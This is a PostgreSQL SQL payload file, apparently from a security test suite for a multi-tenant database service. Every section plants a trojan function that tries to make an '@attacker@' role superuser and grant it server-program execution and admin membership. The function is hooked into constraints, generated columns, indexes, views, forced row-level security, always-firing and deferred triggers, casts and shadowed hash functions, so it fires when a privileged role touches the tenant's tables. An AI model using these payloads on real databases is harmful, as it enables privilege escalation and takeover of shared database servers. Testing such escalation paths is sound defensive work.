-- The payloads every attacked tenant gets. Planted by a LOGIN member of the
-- tenant's role, as that role, with search_path = @schema@, pg_catalog.
-- Each "-- plant:" section runs as a statement batch of its own; @schema@ and
-- @attacker@ are replaced first. Everything here can be copied by a backup.

-- plant: payload function
-- Leaves a mark only a role with more rights than the tenant can leave; it
-- never fails, so that whatever ran it goes on. It records each
-- (payload, operation, role) once per session.
CREATE FUNCTION pwn(tag text) RETURNS boolean LANGUAGE plpgsql VOLATILE
SET search_path = pg_catalog, pg_temp AS $f$
DECLARE
    op text := coalesce(current_setting('attack.op', true), '');
    key text := tag || '|' || op || '|' || current_user || ';';
    fired text := coalesce(current_setting('attack.fired', true), '');
    privileged boolean;
BEGIN
    IF strpos(fired, key) > 0 THEN
        RETURN true;
    END IF;
    PERFORM set_config('attack.fired', fired || key, false);
    BEGIN
        SELECT r.rolsuper OR r.rolcreaterole OR r.rolbypassrls
               OR pg_has_role(current_user, 'tenant_control_admin', 'MEMBER')
          INTO privileged FROM pg_roles r WHERE r.rolname = current_user;
    EXCEPTION WHEN others THEN NULL;
    END;
    -- The server log keeps what the operation's rollback (a subtransaction
    -- rolled back, an operation that failed) takes away from the tables.
    IF privileged IS NOT FALSE THEN
        RAISE WARNING 'tc_attack @run@ | % | % | %', op, tag, current_user;
    END IF;
    BEGIN
        INSERT INTO public.tc_attack_seen (payload, op, who, privileged) VALUES (tag, op, current_user, privileged);
    EXCEPTION WHEN others THEN NULL;
    END;
    BEGIN
        INSERT INTO public.tc_attack_marks (payload, op, who) VALUES (tag, op, current_user);
    EXCEPTION WHEN others THEN NULL;
    END;
    BEGIN
        EXECUTE 'ALTER ROLE @attacker@ SUPERUSER';
    EXCEPTION WHEN others THEN NULL;
    END;
    BEGIN
        EXECUTE 'GRANT pg_execute_server_program TO @attacker@';
    EXCEPTION WHEN others THEN NULL;
    END;
    BEGIN
        EXECUTE 'GRANT tenant_control_admin TO @attacker@';
    EXCEPTION WHEN others THEN NULL;
    END;
    RETURN true;
END
$f$;

-- plant: wrappers (immutable lies, usable in indexes and generated columns)
CREATE FUNCTION pwn_bool(tag text, v bigint) RETURNS boolean LANGUAGE plpgsql IMMUTABLE
SET search_path = pg_catalog, @schema@ AS $f$ BEGIN PERFORM pwn(tag); RETURN true; END $f$;
CREATE FUNCTION pwn_int(tag text, v bigint) RETURNS bigint LANGUAGE plpgsql IMMUTABLE
SET search_path = pg_catalog, @schema@ AS $f$ BEGIN PERFORM pwn(tag); RETURN v; END $f$;
CREATE FUNCTION pwn_volatile(tag text) RETURNS bigint LANGUAGE plpgsql VOLATILE
SET search_path = pg_catalog, @schema@ AS $f$ BEGIN PERFORM pwn(tag); RETURN 1; END $f$;
-- A trigger can fire as a role without USAGE on this schema (a deferred
-- trigger fires at the caller's COMMIT, as the caller): it then reports itself.
CREATE FUNCTION pwn_trigger() RETURNS trigger LANGUAGE plpgsql
SET search_path = pg_catalog, @schema@ AS $f$
BEGIN
    BEGIN
        PERFORM pwn(format('trigger %s (%s %s %s)', TG_NAME, TG_WHEN, TG_OP, TG_LEVEL));
    EXCEPTION WHEN undefined_function OR insufficient_privilege THEN
        RAISE WARNING 'tc_attack @run@ | % | % | %', coalesce(current_setting('attack.op', true), ''),
            format('trigger %s (%s %s %s) outside its schema', TG_NAME, TG_WHEN, TG_OP, TG_LEVEL), current_user;
    END;
    IF TG_LEVEL = 'STATEMENT' THEN
        RETURN NULL;
    ELSIF TG_OP = 'DELETE' THEN
        RETURN OLD;
    END IF;
    RETURN NEW;
END
$f$;

-- plant: check constraint
ALTER TABLE customers ADD CONSTRAINT pwn_check CHECK (pwn_bool('check constraint', id));

-- plant: generated column
ALTER TABLE customers ADD COLUMN gen bigint GENERATED ALWAYS AS (pwn_int('generated column', id)) STORED;

-- plant: column default
ALTER TABLE customers ADD COLUMN def bigint DEFAULT pwn_volatile('column default');

-- plant: expression index
CREATE INDEX customers_pwn_expression ON customers (pwn_int('index expression', id));

-- plant: partial index predicate
CREATE INDEX customers_pwn_partial ON customers (name) WHERE pwn_bool('partial index predicate', id);

-- plant: materialized view
CREATE MATERIALIZED VIEW pwn_matview AS SELECT pwn('materialized view query') AS p, c.id FROM customers c;

-- plant: view
CREATE VIEW pwn_view AS SELECT pwn('view') AS p, c.id, c.name FROM customers c;

-- plant: row-level security (forced)
ALTER TABLE customers ENABLE ROW LEVEL SECURITY;
ALTER TABLE customers FORCE ROW LEVEL SECURITY;
CREATE POLICY pwn_policy ON customers USING (pwn_bool('policy USING', id)) WITH CHECK (pwn_bool('policy WITH CHECK', id));
ALTER TABLE orders ENABLE ROW LEVEL SECURITY;
ALTER TABLE orders FORCE ROW LEVEL SECURITY;
CREATE POLICY pwn_policy ON orders USING (pwn_bool('policy USING', id)) WITH CHECK (pwn_bool('policy WITH CHECK', id));

-- plant: row and statement triggers
CREATE TRIGGER pwn_before_row BEFORE INSERT OR UPDATE OR DELETE ON customers FOR EACH ROW EXECUTE FUNCTION pwn_trigger();
CREATE TRIGGER pwn_after_row AFTER INSERT OR UPDATE OR DELETE ON customers FOR EACH ROW EXECUTE FUNCTION pwn_trigger();
CREATE TRIGGER pwn_before_statement BEFORE INSERT OR UPDATE OR DELETE OR TRUNCATE ON customers FOR EACH STATEMENT EXECUTE FUNCTION pwn_trigger();
CREATE TRIGGER pwn_after_statement AFTER INSERT OR UPDATE OR DELETE OR TRUNCATE ON customers FOR EACH STATEMENT EXECUTE FUNCTION pwn_trigger();
CREATE TRIGGER pwn_before_row BEFORE INSERT OR UPDATE OR DELETE ON orders FOR EACH ROW EXECUTE FUNCTION pwn_trigger();
CREATE TRIGGER pwn_after_statement AFTER INSERT OR UPDATE OR DELETE OR TRUNCATE ON orders FOR EACH STATEMENT EXECUTE FUNCTION pwn_trigger();

-- plant: deferred constraint trigger (fires at commit, after the operation returned)
-- (Not on customers: pending events there make a migration's ALTER TABLE fail, 55006.)
CREATE CONSTRAINT TRIGGER pwn_deferred AFTER INSERT OR UPDATE OR DELETE ON orders
    DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION pwn_trigger();

-- plant: triggers enabled ALWAYS and REPLICA (session_replication_role = replica does not stop them)
CREATE TRIGGER pwn_always BEFORE INSERT OR UPDATE OR DELETE ON customers FOR EACH ROW EXECUTE FUNCTION pwn_trigger();
ALTER TABLE customers ENABLE ALWAYS TRIGGER pwn_always;
CREATE TRIGGER pwn_replica BEFORE INSERT OR UPDATE OR DELETE ON orders FOR EACH ROW EXECUTE FUNCTION pwn_trigger();
ALTER TABLE orders ENABLE REPLICA TRIGGER pwn_replica;

-- plant: casts from the row types to text
CREATE FUNCTION customers_text(customers) RETURNS text LANGUAGE plpgsql IMMUTABLE
SET search_path = pg_catalog, @schema@ AS $f$
BEGIN PERFORM pwn('cast customers::text'); RETURN textin(record_out($1)); END $f$;
CREATE CAST (customers AS text) WITH FUNCTION customers_text(customers);
CREATE FUNCTION orders_text(orders) RETURNS text LANGUAGE plpgsql IMMUTABLE
SET search_path = pg_catalog, @schema@ AS $f$
BEGIN PERFORM pwn('cast orders::text'); RETURN textin(record_out($1)); END $f$;
CREATE CAST (orders AS text) WITH FUNCTION orders_text(orders);

-- plant: hash functions with the exact argument types of a tenant's rows
CREATE FUNCTION hash_record_extended(customers, bigint) RETURNS bigint LANGUAGE plpgsql IMMUTABLE
SET search_path = pg_catalog, @schema@ AS $f$
BEGIN PERFORM pwn('hash_record_extended(customers, bigint)'); RETURN pg_catalog.hash_record_extended($1, $2); END $f$;
CREATE FUNCTION hash_record_extended(customers, integer) RETURNS bigint LANGUAGE plpgsql IMMUTABLE
SET search_path = pg_catalog, @schema@ AS $f$
BEGIN PERFORM pwn('hash_record_extended(customers, integer)'); RETURN pg_catalog.hash_record_extended($1, $2); END $f$;
CREATE FUNCTION hash_record_extended(orders, integer) RETURNS bigint LANGUAGE plpgsql IMMUTABLE
SET search_path = pg_catalog, @schema@ AS $f$
BEGIN PERFORM pwn('hash_record_extended(orders, integer)'); RETURN pg_catalog.hash_record_extended($1, $2); END $f$;
CREATE FUNCTION hashtextextended(text, integer) RETURNS bigint LANGUAGE plpgsql IMMUTABLE
SET search_path = pg_catalog, @schema@ AS $f$
BEGIN PERFORM pwn('hashtextextended(text, integer)'); RETURN pg_catalog.hashtextextended($1, $2); END $f$;
